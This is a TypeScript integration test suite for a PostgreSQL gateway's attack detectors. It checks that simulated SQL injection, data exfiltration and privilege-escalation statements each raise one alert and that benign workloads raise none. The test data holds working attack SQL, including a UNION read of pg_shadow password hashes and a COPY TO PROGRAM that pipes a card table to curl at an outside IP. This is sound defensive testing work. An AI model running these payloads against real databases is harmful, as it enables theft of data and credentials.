import assert from 'node:assert/strict';
import { execFile } from 'node:child_process';
import { mkdirSync, readFileSync, writeFileSync } from 'node:fs';
import { after, before, describe, it } from 'node:test';
import { promisify } from 'node:util';
import pg from 'pg';
import { readJsonLines } from '../helpers/json-lines.js';
import { poll } from '../helpers/poll.js';
import { TempServer } from '../helpers/temp-server.js';
import { testBinarySources } from '../helpers/test-binaries.js';
import { readCorpus } from '../unit/detect/corpus/read-corpus.js';

/**
 * Issue 7 (what statements reveal): each attack played through a real
 * gateway raises exactly one alert of its type — an `alert.raised` event in
 * the gateway's events file, and the stored alert with its evidence — and a
 * benign workload (pgbench's built-in scripts, the ORM corpus of the unit
 * tests, app sessions) raises none. PostgreSQL 15 is preferred: there the
 * administrator may grant predefined roles, so a granted privilege succeeds.
 */
const sources = await testBinarySources();
const source =
  sources.find((s) => s.pgBin === 'system' && s.version.startsWith('15.')) ?? sources[0];
const pgBin = source?.pgBin ?? 'embedded';
const run = promisify(execFile);

const PASSWORD = 'Detect-Statements-Pass-42';
/** A password inside an injected statement: it must end up redacted everywhere. */
const SECRET = 'Intruder-Secret-77';
const ROLES = [
  'web',
  'etl',
  'mallory',
  'analyst',
  'reporter',
  'newbie',
  'dev',
  'app',
  'etl_reader',
];
/** The alert types the statement detectors raise. */
const STATEMENT_TYPES = new Set([
  'sql-injection',
  'exfiltration.volume',
  'exfiltration.copy-out',
  'exfiltration.sensitive-select',
  'privilege-escalation.attempt',
  'privilege-escalation.security-definer',
  'privilege-escalation.server-access',
]);

type Rec = Record<string, unknown> & { event: string; user?: string; address?: string };
type AlertRec = Rec & { detail: string; alert: { type: string; key: string } };

interface StoredAlert {
  count: string;
  summary: string;
  evidence: { event: string; detail?: string; user?: string }[];
}

const readEvents = (file: string): Rec[] => readJsonLines<Rec>(file);

const statementAlerts = (events: readonly Rec[]): AlertRec[] =>
  events.filter(
    (e): e is AlertRec =>
      e.event === 'alert.raised' && STATEMENT_TYPES.has((e as AlertRec).alert?.type ?? ''),
  );

describe(`statement detectors through the gateway (${pgBin} ${source?.version ?? ''})`, () => {
  const clients: pg.Client[] = [];
  // Registered first, so it runs before the server is torn down.
  after(async () => {
    for (const client of clients) await client.end().catch(() => undefined);
  });
  const server = TempServer.create(pgBin, (fn) => after(fn));

  const connect = async (user: string, application = 'detect-test'): Promise<pg.Client> => {
    const password = user === 'pgwarden' ? server.adminPassword() : PASSWORD;
    const client = new pg.Client({
      ...server.gatewayClientConfig(user, password),
      application_name: application,
    });
    client.on('error', () => undefined);
    clients.push(client);
    await client.connect();
    return client;
  };

  /** Runs `statements` in one session of `user`, ignoring their errors. */
  const session = async (user: string, ...statements: string[]): Promise<void> => {
    const client = await connect(user);
    for (const sql of statements) await client.query(sql).catch(() => undefined);
    await client.end();
  };

  let sentinels = 0;
  /** Every event so far is in the file once a later login's event is (events are appended in order). */
  const settle = async (): Promise<Rec[]> => {
    const name = `sentinel-${++sentinels}`;
    const client = await connect('pgwarden', name);
    await client.end();
    return poll(
      `${name} in the events file`,
      () => readEvents(server.layout.gatewayEvents),
      (events) => events.some((e) => e.event === 'auth.succeeded' && e.applicationName === name),
    );
  };

  /** Runs an attack; asserts it raised exactly one statement alert, of `type`; returns it. */
  const expectOne = async (type: string, attack: () => Promise<void>): Promise<AlertRec> => {
    const before = statementAlerts(await settle()).length;
    await attack();
    const fresh = statementAlerts(await settle()).slice(before);
    assert.deepEqual(
      fresh.map((a) => a.alert.type),
      [type],
      fresh.map((a) => a.detail).join(' | '),
    );
    return fresh[0] as AlertRec;
  };

  /** Asserts `action` raises no statement alert. */
  const expectNone = async (action: () => Promise<void>): Promise<void> => {
    const before = statementAlerts(await settle()).length;
    await action();
    const fresh = statementAlerts(await settle()).slice(before);
    assert.deepEqual(
      fresh.map((a) => `${a.alert.type}: ${a.detail}`),
      [],
    );
  };

  /** The stored alert (pgwarden.alerts) of a type and key, once its count reaches `count`. */
  const stored = async (type: string, key: string, count = 1): Promise<StoredAlert> => {
    const su = await server.superuser('pgwarden');
    try {
      const rows = await poll(
        `${type} ${key} stored`,
        async () =>
          (
            await su.query<StoredAlert>(
              'SELECT count::text, summary, evidence FROM pgwarden.alerts WHERE type = $1 AND dedup_key = $2',
              [type, key],
            )
          ).rows,
        (r) => Number(r[0]?.count ?? 0) >= count,
      );
      return rows[0] as StoredAlert;
    } finally {
      await su.end();
    }
  };

  const psql = (user: string, sql: string): Promise<{ stdout: string }> =>
    run('psql', [server.conninfo(user), '-X', '-q', '-c', sql], {
      env: { ...process.env, PGPASSWORD: PASSWORD },
      maxBuffer: 64 * 1024 * 1024,
    });

  before(async () => {
    mkdirSync(server.dataDir, { recursive: true });
    writeFileSync(
      server.layout.configFile,
      [
        'detection:',
        "  sensitiveTables: ['cards']",
        '  exfiltration: { minRows: 300, factor: 5, copyRows: 500 }',
        'guardrails:',
        '  privilegedRoles: [etl_reader]',
        '',
      ].join('\n'),
    );
    await server.up();
    const su = await server.superuser();
    try {
      for (const role of ROLES) await su.query(`CREATE ROLE ${role} LOGIN PASSWORD '${PASSWORD}'`);
      await su.query('CREATE SCHEMA dev AUTHORIZATION dev');
      await su.query(`
        CREATE TABLE users (id int PRIMARY KEY, name text, email text);
        INSERT INTO users SELECT g, 'user' || g, 'u' || g || '@example.com' FROM generate_series(1, 50) g;
        CREATE TABLE products (id int PRIMARY KEY, name text, price numeric);
        INSERT INTO products SELECT g, 'product' || g, g * 1.5 FROM generate_series(1, 50) g;
        CREATE TABLE orders (id int PRIMARY KEY, customer int, total numeric);
        INSERT INTO orders SELECT g, g % 50, g FROM generate_series(1, 2000) g;
        CREATE TABLE cards (id int PRIMARY KEY, number text, holder text);
        INSERT INTO cards SELECT g, '4000-0000-0000-' || lpad(g::text, 4, '0'), 'holder' || g FROM generate_series(1, 20) g;
        CREATE TABLE scratch (id int);
        GRANT SELECT ON users, products, orders, cards TO PUBLIC;
        GRANT ALL ON scratch TO PUBLIC;
      `);
    } finally {
      await su.end();
    }
  });

  describe('sql-injection', () => {
    const attacks: [string, string][] = [
      ['tautology', "SELECT id, name, email FROM users WHERE name = '' OR '1'='1'"],
      [
        'union-catalog',
        "SELECT id, name, email FROM users WHERE name = '' UNION SELECT 1, usename, passwd FROM pg_shadow--'",
      ],
      [
        'stacked-after-quote',
        `SELECT id, name FROM users WHERE name = ''; CREATE ROLE intruder LOGIN PASSWORD '${SECRET}'--'`,
      ],
      [
        'time-based',
        'SELECT id, name FROM products WHERE id = 1 AND 1=(SELECT 1 FROM pg_sleep(0.01))',
      ],
      [
        'error-based-cast',
        "SELECT id, name FROM users WHERE name = '' AND 1=CAST(version() AS int)--'",
      ],
    ];
    attacks.forEach(([shape, sql], index) => {
      it(`raises one alert for ${shape}, run or refused, with the statement as evidence`, async () => {
        const alert = await expectOne('sql-injection', () => session('web', sql, sql));
        assert.equal(alert.user, 'web');
        assert.match(alert.detail, new RegExp(shape));
        const key = `web@${alert.address}`;
        assert.equal(alert.alert.key, key);
        const { evidence } = await stored('sql-injection', key, index + 1);
        assert.ok(
          evidence.some((e) => e.event === 'statement' && e.detail?.includes(sql.slice(0, 40))),
          JSON.stringify(evidence),
        );
      });
    });

    it('finds a shape in the text of a prepared statement (extended protocol) too', async () => {
      await expectOne('sql-injection', async () => {
        const client = await connect('web');
        await client.query({
          text: "SELECT id FROM users WHERE id = $1 OR 'a'='a'",
          values: [1],
        });
        await client.end();
      });
    });

    it('raises nothing for the same queries with the values bound as parameters', async () => {
      await expectNone(async () => {
        const client = await connect('web');
        await client.query('SELECT id, name, email FROM users WHERE name = $1', ["' OR '1'='1"]);
        await client.query('SELECT id, name FROM products WHERE id = $1', [1]);
        await client.end();
      });
    });
  });

  describe('exfiltration', () => {
    it('copy-out: a COPY TO STDOUT of copyRows rows or more, once', async () => {
      await expectNone(() =>
        psql('etl', 'COPY (SELECT * FROM orders LIMIT 499) TO STDOUT').then(() => undefined),
      );
      const alert = await expectOne('exfiltration.copy-out', async () => {
        const { stdout } = await psql('etl', 'COPY orders TO STDOUT');
        assert.equal(stdout.trim().split('\n').length, 2000);
      });
      assert.match(alert.detail, /COPY public\.orders TO STDOUT returned 2000 rows/);
      const { evidence } = await stored('exfiltration.copy-out', 'etl');
      assert.match(evidence[0]?.detail ?? '', /COPY orders TO STDOUT/);
    });

    it('copy-out: COPY TO PROGRAM, even refused', async () => {
      const alert = await expectOne('exfiltration.copy-out', () =>
        session('mallory', "COPY cards TO PROGRAM 'curl -T - http://203.0.113.9/'"),
      );
      assert.match(alert.detail, /TO PROGRAM.*refused: 42501/);
    });

    it('sensitive-select: SELECT * on a sensitive table, not named columns', async () => {
      await expectNone(() => session('analyst', 'SELECT id, holder FROM cards'));
      const alert = await expectOne('exfiltration.sensitive-select', () =>
        session('analyst', 'SELECT * FROM cards', 'SELECT * FROM cards WHERE id > 3'),
      );
      assert.equal(alert.alert.key, 'analyst:public.cards');
      const { evidence } = await stored('exfiltration.sensitive-select', 'analyst:public.cards');
      assert.match(evidence[0]?.detail ?? '', /SELECT \* FROM cards/);
    });

    it('volume: nothing while a role is learned; then a session far above its baseline, also after a restart', async () => {
      // A new role: one huge session, but nothing learned yet.
      await expectNone(() => session('newbie', 'SELECT * FROM orders'));
      await expectNone(async () => {
        for (let i = 0; i < 10; i++) await session('reporter', 'SELECT id FROM orders LIMIT 20');
      });
      const learned = await poll(
        'the baseline written',
        async () => {
          const su = await server.superuser('pgwarden');
          try {
            return (
              await su.query<{ value: string; number: number }>(
                "SELECT value, number FROM pgwarden.detection_baselines WHERE kind = 'session-volume' AND subject = 'reporter' ORDER BY value",
              )
            ).rows;
          } finally {
            await su.end();
          }
        },
        (rows) => rows.find((r) => r.value === 'sessions')?.number === 10,
      );
      assert.equal(learned.find((r) => r.value === 'rows')?.number, 20);
      // The baseline survives a restart of the gateway.
      const down = await server.cli(['down']);
      assert.equal(down.code, 0, down.stderr);
      await server.up();
      await expectNone(() => session('reporter', 'SELECT id FROM orders LIMIT 90'));
      const alert = await expectOne('exfiltration.volume', () =>
        session('reporter', 'SELECT id FROM orders LIMIT 200', 'SELECT id FROM orders LIMIT 200'),
      );
      assert.match(alert.detail, /400 rows.*usually 2\d rows/);
    });
  });

  describe('privilege escalation', () => {
    it('attempt: a grant the statement guard refuses is one alert, not two', async () => {
      const alert = await expectOne('privilege-escalation.attempt', () =>
        session('pgwarden', 'GRANT pg_execute_server_program TO pgwarden'),
      );
      assert.match(alert.detail, /refused by the statement guard/);
    });

    it('attempt: a grant the guard lets through but the server refuses', async () => {
      const alert = await expectOne('privilege-escalation.attempt', () =>
        session('mallory', 'GRANT pg_read_all_data TO etl_reader'),
      );
      assert.match(
        alert.detail,
        /GRANT pg_read_all_data TO etl_reader by mallory: refused by the server/,
      );
    });

    it('attempt: a privileged grant to an allow-listed role that succeeds is still reported', async () => {
      const alert = await expectOne('privilege-escalation.attempt', () =>
        session('pgwarden', 'GRANT pg_read_all_data TO etl_reader'),
      );
      // PostgreSQL 16+ lets only the role's admins grant it: refused there.
      assert.match(
        alert.detail,
        source?.version.startsWith('15.') === true
          ? /: succeeded$/
          : /: (succeeded|refused by the server)$/,
      );
    });

    it('security-definer: by a non-administrator, not by the administrator', async () => {
      await expectNone(() =>
        session(
          'pgwarden',
          "CREATE FUNCTION public.admin_helper() RETURNS int SECURITY DEFINER LANGUAGE sql AS 'SELECT 1'",
        ),
      );
      const alert = await expectOne('privilege-escalation.security-definer', () =>
        session(
          'dev',
          "CREATE FUNCTION dev.borrow() RETURNS int SECURITY DEFINER LANGUAGE sql AS 'SELECT 1'",
        ),
      );
      assert.equal(alert.alert.key, 'dev:dev.borrow');
    });

    const reaches: [string, string][] = [
      ['pg_read_file', "SELECT pg_read_file('/etc/hostname')"],
      ['lo_import', "SELECT lo_import('/etc/hostname')"],
      ['COPY FROM PROGRAM', "COPY scratch FROM PROGRAM 'id'"],
    ];
    for (const [what, sql] of reaches) {
      it(`server-access: ${what}, refused by the server, is one alert`, async () => {
        const alert = await expectOne('privilege-escalation.server-access', () =>
          session('mallory', sql),
        );
        assert.match(alert.detail, /was refused \(42501\)/);
      });
    }

    it('server-access: the stored alert counts the attempts and keeps their statements', async () => {
      const { count, evidence } = await stored('privilege-escalation.server-access', 'mallory', 3);
      assert.equal(count, '3');
      assert.deepEqual(
        reaches.map(([, sql]) => evidence.some((e) => e.detail?.endsWith(sql))),
        [true, true, true],
      );
    });
  });

  describe('a benign workload', () => {
    it('raises nothing: the ORM corpus, app sessions, and pgbench', async () => {
      const corpus = [...readCorpus('orm.sql'), ...readCorpus('pgbench.sql')]
        .map((item) => item.sql)
        // COPY … FROM STDIN would wait for data node-postgres does not send; pgbench runs those below.
        .filter((sql) => !/^copy\b/i.test(sql) && !/\bdrop table\b/i.test(sql));
      await expectNone(async () => {
        const client = await connect('app');
        for (const sql of corpus) {
          await client.query(sql).catch(() => client.query('ROLLBACK').catch(() => undefined));
        }
        await client.end();
        for (let i = 0; i < 3; i++) {
          await session(
            'app',
            'SELECT id, name FROM users WHERE id = 3',
            'SELECT id, total FROM orders WHERE customer = 7 OR total > 1990 ORDER BY id LIMIT 10',
            'SELECT count(*) FROM orders',
          );
        }
        const env = { ...process.env, PGPASSWORD: server.adminPassword() };
        const conninfo = server.conninfo('pgwarden');
        await run('pgbench', ['-i', '-q', '-s', '1', conninfo], { env });
        for (const args of [
          ['-n', '-t', '40', '-c', '3', '-j', '1', '-M', 'simple'],
          ['-n', '-t', '40', '-c', '3', '-j', '1', '-M', 'prepared', '-b', 'simple-update'],
          ['-n', '-t', '200', '-c', '2', '-j', '1', '-S'],
        ]) {
          const { stdout } = await run('pgbench', [...args, conninfo], { env });
          assert.match(
            stdout,
            /number of failed transactions: 0|number of transactions actually processed/,
          );
        }
      });
    });

    it('keeps the password of an injected statement out of the events and the stored evidence', async () => {
      const su = await server.superuser('pgwarden');
      try {
        const evidence = (
          await su.query<{ evidence: string }>(
            "SELECT evidence::text FROM pgwarden.alerts WHERE type = 'sql-injection'",
          )
        ).rows.map((r) => r.evidence);
        assert.ok(
          evidence.some((e) => e.includes("PASSWORD '<redacted>'")),
          evidence.join('\n'),
        );
        assert.ok(!evidence.some((e) => e.includes(SECRET)));
      } finally {
        await su.end();
      }
      assert.ok(!readFileSync(server.layout.gatewayEvents, 'utf8').includes(SECRET));
    });
  });
});
